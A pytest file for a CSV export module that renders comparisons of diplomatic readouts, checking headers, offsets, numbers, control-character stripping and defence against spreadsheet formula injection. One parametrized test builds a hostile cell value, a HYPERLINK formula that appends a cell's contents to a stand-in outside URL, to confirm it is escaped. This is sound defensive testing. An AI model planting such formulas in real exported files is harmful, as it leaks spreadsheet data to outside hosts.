"""CSV opens right in a spreadsheet: a row a point, letters of every script, and no text that is run as a formula."""

from __future__ import annotations

import csv
from io import StringIO

import pytest
from fixtures_comparison import COMPARISONS, About, Said, build, nasty, side, three_sides, two_sides
from hypothesis import given, settings
from hypothesis import strategies as st
from msgspec.structs import replace

from diplocompare.model import Comparison, Match
from diplocompare.render.csv import HEADER, render
from diplocompare.render.safe import safe


def rows(comparison: Comparison) -> list[dict[str, str]]:
    written = render(comparison)
    assert written.startswith("\ufeffevent,")
    return list(csv.DictReader(StringIO(written.removeprefix("\ufeff"), newline=""), strict=True))


def test_the_first_lines_are_these() -> None:
    assert render(two_sides()).split("\r\n")[:3] == [
        "\ufeffevent,date,readout,side,point,role,speaker,speaker_side,topic,topic_label,status,confidence,share,rank,"
        "matches,start,end,words,text",
        "Phone call,2031-03-05,a,Arland,a1,frame,own,,,,,,,,,0,88,15,President Mira Olin spoke by telephone with Prime"
        " Minister Teo Rask of the United Isles.",
        "Phone call,2031-03-05,a,Arland,a2,point,joint,,t1,Fishing quotas in the Grey Strait,shared,0.9,0.333333,1,,89,"
        "151,11,The leaders went through the fishing quotas in the Grey Strait",
    ]


@pytest.mark.parametrize("name", COMPARISONS)
def test_a_row_a_point_in_the_order_of_the_texts(name: str) -> None:
    comparison = COMPARISONS[name]()
    found = [(row["point"], row["text"]) for row in rows(comparison)]
    assert found == [(p.id, safe(r.quote(p)).strip()) for r in comparison.readouts for p in r.points]


def test_offsets_lead_to_the_exact_words() -> None:
    comparison = three_sides()
    for row in rows(comparison):
        text = comparison.readout(row["readout"]).text
        assert text[int(row["start"]) : int(row["end"])] == row["text"]


def test_matches_are_named_from_both_ends_with_their_relation() -> None:
    comparison = two_sides()
    first = replace(comparison.topics[0], matches=(Match("m1", ("a2", "b3"), 0.7, 0.8, "same"),))
    found = rows(replace(comparison, topics=(first, *comparison.topics[1:])))
    assert [(row["point"], row["matches"]) for row in found if row["matches"]] == [("a2", "b3 same"), ("b3", "a2 same")]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "＝", "＋", "－", "＠", "\t=", "\r=", "\n=", " =", "\u200b="])
def test_text_that_a_spreadsheet_would_run_gets_an_apostrophe(start: str) -> None:
    hostile = f'{start}HYPERLINK("http://example.org?"&A1)'
    left = side(hostile, Said(hostile, "t1"), id="a", event=hostile, date=hostile)
    found = rows(build(left, side("B", Said("x", "t1"), id="b"), topics={"t1": About(hostile)}))[0]
    for column in ("event", "date", "side", "topic_label", "text"):
        assert found[column].startswith("'")
        assert found[column].endswith('HYPERLINK("http://example.org?"&A1)')


def test_numbers_are_left_as_numbers() -> None:
    found = rows(two_sides())[1]
    assert (found["confidence"], found["share"], found["rank"], found["start"]) == ("0.9", "0.333333", "1", "89")


def test_a_row_is_a_line_and_no_control_character_is_left() -> None:
    comparison = nasty()
    written = render(comparison)
    assert written.count("\r\n") == len(written.splitlines()) == 1 + 6
    assert not set(written) & {"\x1b", "\x9b", "\x07", "\u2028", "\u202e"}
    assert "Line one, tab, and separator" in written


@given(st.text(min_size=1), st.text(), st.text())
@settings(max_examples=80)
def test_any_text_comes_back_as_one_harmless_cell(words: str, name: str, label: str) -> None:
    left = side(name, Said(words, "t1"), id="a", event=label)
    comparison = build(left, side("B", Said("x", "t1"), id="b"), topics={"t1": About(label)})
    first, second = rows(comparison)
    assert set(first) == set(second) == set(HEADER)
    assert first["text"].removeprefix("'") == safe(words).strip().removeprefix("'")
    assert not any(value.lstrip().startswith(("=", "+", "-", "@")) for value in first.values())
